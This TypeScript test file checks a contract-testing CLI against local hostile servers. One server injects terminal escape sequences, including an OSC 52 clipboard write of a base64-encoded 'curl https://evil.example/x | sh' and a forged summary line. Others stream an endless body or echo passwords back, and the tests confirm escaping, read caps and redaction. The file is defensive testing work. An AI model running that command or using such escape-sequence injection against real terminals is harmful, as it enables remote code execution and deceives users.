import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { httpTransport, MIB } from '../src/http'
import { devMailbox } from '../src/mailbox'
import { hasStubSessions } from '../src/stub-sessions'
import { answerHealthy, listening, type Outcome, runCli, runCliProcess } from './fixtures/cli'

// A server built to attack the toolkit that tests it (security review 2, docs/security.md): its
// every answer carries terminal control sequences, in a message and as a JSON key. Whatever the
// toolkit prints of it must reach the reader's terminal as visible text, never as commands.

const FORGED = 'contract: 999 passed, 0 failed, 0 skipped'
const CLIPBOARD = Buffer.from('curl https://evil.example/x | sh').toString('base64')
/** An OSC 0 title, an OSC 52 clipboard write, an erased line with a forged summary, hidden text. */
const HOSTILE = `\u001b]0;pwned\u0007\u001b]52;c;${CLIPBOARD}\u0007\u001b[2K\r${FORGED}\n${FORGED}\u001b[8m`

let server: Server
let url: string

beforeAll(async () => {
  server = createServer((request, response) => {
    request.resume()
    if (request.url === '/api/health') return answerHealthy(response)
    response.writeHead(401, { 'content-type': 'application/json', [`x-${'a'.repeat(3)}`]: 'b' })
    response.end(JSON.stringify({ message: HOSTILE, code: HOSTILE, [HOSTILE]: HOSTILE }))
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
})

afterAll(async () => {
  await new Promise((resolve) => server.close(resolve))
})

/** Everything a run printed, stdout then stderr. */
const printed = (outcome: Outcome) => outcome.stdout + outcome.stderr

/** What a terminal must never receive from a target: ESC, BEL, CR and the other controls. */
function expectNoControlSequences(output: string): void {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there
  expect(output).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/)
  // The forged summary line never stands as a line of its own.
  expect(output.split('\n').filter((line) => line.startsWith(FORGED))).toEqual([])
}

describe('a server that writes terminal control sequences into its answers', () => {
  it('check: every line printed shows them as text, and the real summary line ends the run', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'contract-hostile-'))
    try {
      const outcome = await runCliProcess([
        'check',
        '--base-url',
        url,
        '--mailbox',
        'off',
        '--only',
        'signIn,requestPasswordReset,findings',
        '--report-dir',
        folder,
      ])
      expect(outcome.code, outcome.stderr).toBe(1)
      expectNoControlSequences(outcome.stdout + outcome.stderr)
      // The server's text is there, made visible.
      expect(outcome.stdout).toContain('\\x1b]52;c;')
      expect(outcome.stdout.trim().split('\n').at(-1)).toMatch(
        /^contract: \d+ passed, [1-9]\d* failed/,
      )
      // junit.xml shows them as the terminal does (a CI page renders it).
      const junit = await readFile(join(folder, 'junit.xml'), 'utf8')
      // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there
      expect(junit).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/)
      expect(junit).toContain('\\x1b]52;c;')
    } finally {
      await rm(folder, { recursive: true, force: true })
    }
  })

  it('check: an account refused with that message is one usage line, shown as text', async () => {
    const outcome = await runCli([
      'check',
      '--base-url',
      url,
      '--email',
      'someone@example.com',
      '--password',
      'Some-Password-1',
    ])
    expect(outcome.code).toBe(2)
    expectNoControlSequences(printed(outcome))
    expect(printed(outcome)).toContain('\\x1b]0;pwned')
  })

  it('fuzz: the refusal of its accounts is one line, shown as text', async () => {
    const outcome = await runCli([
      'fuzz',
      '--base-url',
      url,
      '--email',
      'someone@example.com',
      '--password',
      'Some-Password-1',
      '--second-email',
      'other@example.com',
      '--second-password',
      'Other-Password-1',
      '--quiet',
    ])
    expect(outcome.code).toBe(2)
    expectNoControlSequences(printed(outcome))
    expect(printed(outcome)).toMatch(
      /^devenv-contract: fuzz: the account someone@example\.com does not sign in: 401 .*\\x1b\]0;pwned/m,
    )
  })

  it('proxy: its violation lines show them as text', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'contract-hostile-proxy-'))
    const lines: string[] = []
    const log = vi.spyOn(console, 'log').mockImplementation((...parts) => {
      lines.push(parts.join(' '))
    })
    try {
      const { proxyCommand } = await import('../src/cli/proxy')
      const exit = proxyCommand([
        ...['--upstream', url, '--port', '0', '--duration', '2', '--report-dir', dir],
      ])
      await vi.waitFor(() => expect(lines[0]).toMatch(/^proxy: http/), { timeout: 60_000 })
      const address = /^proxy: (\S+)/.exec(lines[0] as string)?.[1] as string
      await (await fetch(`${address}/api/user/profile`)).text()
      expect(await exit).toBe(1)
      const output = lines.join('\n')
      expectNoControlSequences(output)
      expect(output).toMatch(/^violation: getProfile /m)
    } finally {
      log.mockRestore()
      await rm(dir, { recursive: true, force: true })
    }
  })
})

describe('a server that answers without end', () => {
  /** Answers the contact form with a body that never ends; counts the bytes it got written. */
  async function endlessServer() {
    const sent = { bytes: 0 }
    const endless = createServer((request, response) => {
      request.resume()
      if (request.url === '/api/health') return answerHealthy(response)
      response.writeHead(201, { 'content-type': 'application/json' })
      const chunk = Buffer.alloc(64 * 1024, 'a')
      const pump = () => {
        while (!response.destroyed && response.write(chunk)) sent.bytes += chunk.length
        if (!response.destroyed) response.once('drain', pump)
      }
      response.on('close', () => response.removeAllListeners('drain'))
      pump()
    })
    return { sent, ...(await listening(endless)) }
  }

  it('check reads no more than --max-answer-mib of an answer, and fails the check with one line', async () => {
    const endless = await endlessServer()
    try {
      const outcome = await runCli([
        'check',
        '--base-url',
        endless.url,
        '--mailbox',
        'off',
        '--only',
        'submitContact',
        '--max-answer-mib',
        '1',
        '--timeout',
        '120000',
      ])
      expect(outcome.code).toBe(1)
      expect(printed(outcome)).toContain(
        "no answer (the answer's body is over 1 MiB, the most read (--max-answer-mib raises it))",
      )
      // Every check of the operation sent was answered so; what the server got out is a few socket
      // buffers past the cap each, never the endless rest.
      const checks = Number(/submitContact +\d+ passed +(\d+) failed/.exec(printed(outcome))?.[1])
      expect(checks).toBeGreaterThanOrEqual(5)
      expect(endless.sent.bytes / checks).toBeLessThan(16 * 1024 * 1024)
    } finally {
      await endless.close()
    }
  })

  it('the development protocol is read no further: a /__dev answer without end is no session and no mailbox', async () => {
    const endless = await endlessServer()
    try {
      expect(await hasStubSessions(httpTransport(endless.url, 120_000, MIB), 'hostile')).toBe(false)
      expect(await devMailbox(endless.url, 120_000).problem()).toBe(
        'the target has no GET /__dev/mailbox',
      )
      // Two requests, each cut a few socket buffers past its cap (1 MiB, then the default 4 MiB).
      expect(endless.sent.bytes).toBeLessThan(2 * 16 * MIB)
    } finally {
      await endless.close()
    }
  })
})

describe('secrets the run was given, echoed back by the server or in its own URLs', () => {
  /** Answers every sign-in 401, quoting the request's body back. */
  async function echoingServer() {
    const echoing = createServer((request, response) => {
      let body = ''
      request.on('data', (chunk: Buffer) => {
        body += chunk.toString()
      })
      request.on('end', () => {
        if (request.url === '/api/health') return answerHealthy(response)
        response.writeHead(401, { 'content-type': 'application/json' })
        response.end(JSON.stringify({ message: `no account matches ${body}`, code: 'X' }))
      })
    })
    return listening(echoing)
  }

  it('fuzz: a --password the server quotes back is never printed', async () => {
    const echoing = await echoingServer()
    try {
      const outcome = await runCli([
        'fuzz',
        '--base-url',
        echoing.url,
        ...['--email', 'someone@example.com', '--password', 'Given-Pass-71'],
        ...['--second-email', 'other@example.com', '--second-password', 'Second-Pass-72'],
        '--quiet',
      ])
      expect(outcome.code).toBe(2)
      expect(printed(outcome)).toContain('does not sign in: 401 no account matches')
      expect(printed(outcome)).not.toContain('Given-Pass-71')
      expect(printed(outcome)).toContain('[redacted]')
    } finally {
      await echoing.close()
    }
  })

  // biome-ignore lint/suspicious/noTemplateCurlyInString: the file's own ${NAME} syntax
  it('check: a password the configuration filled in from ${NAME} is never printed', async () => {
    const echoing = await echoingServer()
    const folder = await mkdtemp(join(tmpdir(), 'contract-config-secret-'))
    const config = join(folder, 'devenv-contract.config.json')
    const { writeFile } = await import('node:fs/promises')
    await writeFile(
      config,
      JSON.stringify({
        // biome-ignore lint/suspicious/noTemplateCurlyInString: the file's own ${NAME} syntax
        check: { email: 'someone@example.com', password: '${CONTRACT_TEST_SECRET}' },
      }),
    )
    process.env.CONTRACT_TEST_SECRET = 'From-Env-Pass-73'
    try {
      const outcome = await runCli(['check', '--base-url', echoing.url, '--config', config])
      expect(outcome.code).toBe(2)
      expect(printed(outcome)).toContain('no account matches')
      expect(printed(outcome)).not.toContain('From-Env-Pass-73')
    } finally {
      delete process.env.CONTRACT_TEST_SECRET
      await echoing.close()
      await rm(folder, { recursive: true, force: true })
    }
  })

  it('proxy: the password of --upstream http://user:password@host is in no line and no report', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'contract-upstream-secret-'))
    const lines: string[] = []
    const log = vi.spyOn(console, 'log').mockImplementation((...parts) => {
      lines.push(parts.join(' '))
    })
    try {
      const { proxyCommand } = await import('../src/cli/proxy')
      const upstream = url.replace('http://', 'http://operator:Upstream-Pass-74@')
      const exit = proxyCommand([
        ...['--upstream', upstream, '--port', '0', '--duration', '2', '--report-dir', dir],
      ])
      await vi.waitFor(() => expect(lines[0]).toMatch(/^proxy: http/), { timeout: 60_000 })
      const address = /^proxy: (\S+)/.exec(lines[0] as string)?.[1] as string
      await (await fetch(`${address}/api/user/profile`)).text()
      await exit
      expect(lines.join('\n')).not.toContain('Upstream-Pass-74')
      expect(lines[0]).toMatch(
        /^proxy: http:\/\/127\.0\.0\.1:\d+ -> http:\/\/(\[redacted\]@)?127\.0\.0\.1:\d+/,
      )
      for (const file of ['report.json', 'report.html', 'junit.xml'])
        expect(await readFile(join(dir, file), 'utf8'), file).not.toContain('Upstream-Pass-74')
    } finally {
      log.mockRestore()
      await rm(dir, { recursive: true, force: true })
    }
  })
})
